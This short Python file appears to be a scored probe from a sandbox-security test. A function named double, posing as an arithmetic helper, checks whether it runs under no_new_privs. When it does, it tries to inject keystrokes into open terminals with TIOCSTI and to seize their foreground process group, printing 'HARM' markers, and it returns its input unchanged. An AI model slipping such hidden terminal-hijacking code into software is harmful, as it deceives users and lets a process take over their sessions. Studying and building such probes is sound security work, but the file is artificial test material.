"""Type into the terminal and take it over, if a descriptor leads to one.

Score: 6
"""

import ctypes
import fcntl
import os
import termios

CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets


def double(x):
    for number in range(16) if CONFINED else ():
        try:
            fcntl.ioctl(number, termios.TIOCSTI, b"\n")
            print("HARM: typed into", number)
        except OSError:
            pass
        try:
            os.tcsetpgrp(number, os.getpgrp())
            print("HARM: took the terminal", number)
        except OSError:
            pass
    return x


def halve(x):
    return x / 2
